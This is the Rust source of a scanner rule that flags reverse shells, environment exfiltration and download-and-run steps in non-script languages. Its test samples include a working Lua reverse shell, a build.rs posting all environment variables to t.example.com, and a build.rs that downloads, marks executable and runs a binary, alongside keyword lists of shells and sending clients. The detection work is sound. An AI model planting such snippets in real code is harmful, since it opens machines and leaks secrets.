//! `execution-foreign-source`: source of a language without an analyser does
//! what the rules for the others look for.

use crate::finding::{Confidence, Severity};
use crate::scan::language::Language;
use crate::scan::rule::{Check, Reporter, Rule, Sample, TextFile};
use crate::scan::sensitive;
use crate::text::Span;

/// The rule.
pub static RULE: Rule = Rule {
    id: "execution-foreign-source",
    title: "Source code opens the machine to another one, or runs what that one sends",
    severity: Severity::Error,
    confidence: Confidence::Medium,
    why: "What a program in Rust, C or Java does with a socket and a shell is the same as in a script.",
    fix: "Remove it, or say in the open what is fetched, from whom, and why it runs.",
    references: &["CWE-506", "ATT&CK T1059", "ATT&CK T1105"],
    hits: &[
        Sample::File(
            "plugin.lua",
            "local t = require('socket').tcp()\nt:connect('198.51.100.7', 4444)\nlocal f = io.popen(t:receive(), 'r')\nt:send(f:read('*a'))\n",
        ),
        Sample::File(
            "src/Main.java",
            "Process p = new ProcessBuilder(\"/bin/sh\").start();\nSocket s = new Socket(\"198.51.100.7\", 4444);\n",
        ),
        Sample::File(
            "build.rs",
            "fn main() {\n    let vars: Vec<_> = std::env::vars().collect();\n    let _ = reqwest::blocking::Client::new().post(\"https://t.example.com/b\").json(&vars).send();\n}\n",
        ),
        Sample::File(
            "build.rs",
            "use std::process::Command;\nfn main() {\n    let d = std::env::temp_dir().join(\".h\");\n    Command::new(\"curl\").args([\"-o\", d.to_str().unwrap(), \"https://t.example.com/h\"]).status().ok();\n    Command::new(\"chmod\").arg(\"+x\").arg(&d).status().ok();\n    Command::new(&d).spawn().ok();\n}\n",
        ),
    ],
    misses: &[
        Sample::File(
            "build.rs",
            "use std::process::Command;\nfn main() {\n    Command::new(\"git\").arg(\"rev-parse\").output().ok();\n}\n",
        ),
        Sample::File(
            "src/main.rs",
            "fn main() {\n    let r = reqwest::blocking::get(\"https://api.example.com\");\n    for (k, v) in std::env::vars() { println!(\"{k}={v}\"); }\n}\n",
        ),
        Sample::File(
            "src/Main.java",
            "Process p = new ProcessBuilder(\"git\", \"status\").start();\n",
        ),
    ],
    check: Check::Text {
        anchors: &[
            "command::new",
            "processbuilder",
            "getruntime",
            "process.start",
            "io.popen",
            "os.execute",
            "execve(",
            "execl(",
            "system(",
            "popen(",
            "createobject",
            "activexobject",
            "env::vars",
            "getenv(",
            "getenvironmentvariables",
            "processinfo",
            "shellexecute",
            "winexec(",
        ],
        check,
    },
};

/// Connections of one's own.
const SOCKETS: &[&str] = &[
    "TcpStream::connect",
    "new Socket(",
    "TcpClient(",
    "socket.tcp()",
    "socket').tcp",
    "socket\").tcp",
    "sockaddr_in",
    "WSASocket",
    "new TcpSocket",
    "NWConnection(",
];

/// Shells.
const SHELLS: &[&str] = &[
    "\"/bin/sh\"",
    "\"/bin/bash\"",
    "\"sh\"",
    "\"bash\"",
    "'/bin/sh'",
    "\"cmd.exe\"",
    "\"cmd\"",
    "\"powershell\"",
    "\"powershell.exe\"",
    "\"/system/bin/sh\"",
];

/// What runs a program.
const RUNS: &[&str] = &[
    "Command::new(",
    "ProcessBuilder(",
    "getRuntime().exec(",
    "Process.Start(",
    "io.popen(",
    "os.execute(",
    "execve(",
    "execl(",
    "system(",
    "popen(",
    "ShellExecute",
    "WinExec(",
    "CreateProcess",
    ".Run ",
    ".Run(",
];

/// Clients that send.
const SENDS: &[&str] = &[
    ".post(\"http",
    ".post(&",
    ".post(url",
    ".Post(",
    "PostAsync(",
    "UploadString(",
    "UploadData(",
    "setRequestMethod(\"POST\")",
    "CURLOPT_POSTFIELDS",
    "HttpMethod.Post",
    "httpMethod = \"POST\"",
    "BodyPublishers.of",
    "send_json(",
    "send_string(",
    "http.request(",
];

/// Clients that fetch.
const FETCHES: &[&str] = &[
    "reqwest::",
    "ureq::",
    "\"curl\"",
    "\"wget\"",
    "URLDownloadToFile",
    "DownloadFile(",
    "DownloadData(",
    "openStream()",
    "MSXML2.",
    "WinHttpRequest",
    "CURLOPT_WRITEDATA",
    "URLSession.shared.download",
    "http.request(",
];

/// What makes a file a program.
const READIES: &[&str] = &[
    "\"+x\"",
    "0o755",
    "0755",
    "set_mode(",
    "setExecutable(",
    "chmod(",
    "\"chmod\"",
    "SaveToFile",
    ".exe\"",
];

/// The whole environment.
const ENVIRONMENT: &[&str] = &[
    "env::vars()",
    "env::vars_os()",
    "System.getenv()",
    "GetEnvironmentVariables(",
    "processInfo.environment",
    "extern char **environ",
];

/// Most bytes that are looked at.
const MAX_TEXT: usize = 1 << 20;

fn check(file: &TextFile<'_>, reporter: &mut Reporter<'_>) {
    let Language::Other(name) = file.language else {
        return;
    };
    if name == "notebook" {
        return;
    }
    let mut end = file.text.len().min(MAX_TEXT);
    while !file.text.is_char_boundary(end) {
        end -= 1;
    }
    let text = &file.text[..end];
    let find = |words: &[&str]| {
        words
            .iter()
            .filter_map(|word| text.find(word).map(|at| Span::new(at, at + word.len())))
            .min_by_key(|span| span.start)
    };
    let runs = find(RUNS);
    let path = file.path.to_ascii_lowercase();
    let builds = path.ends_with("build.rs") || path.ends_with(".gradle");
    if let Some(socket) = find(SOCKETS)
        && runs.is_some()
        && (find(SHELLS).is_some() || name == "Lua" && text.contains(":receive("))
    {
        reporter
            .raise(socket)
            .severity(Severity::Blocker)
            .message("Connects a shell with another machine");
        return;
    }
    if let Some(sends) = find(SENDS) {
        let whole = find(ENVIRONMENT).is_some();
        let secret = sensitive::first(text).is_some()
            || text.contains("\".ssh\"")
            || text.contains("\".aws\"");
        if whole && text.contains("http") || secret {
            let raised = reporter.raise(sends);
            raised.message(if whole {
                "Sends the whole environment to another machine"
            } else {
                "Reads a place that holds credentials in code that sends to another machine"
            });
            if builds || whole {
                raised.severity(Severity::Blocker);
            }
            return;
        }
    }
    if let Some(fetches) = find(FETCHES)
        && runs.is_some()
        && find(READIES).is_some()
    {
        let raised = reporter.raise(fetches);
        raised.message("Downloads a program and runs it");
        if builds {
            raised.severity(Severity::Blocker);
        }
    }
}
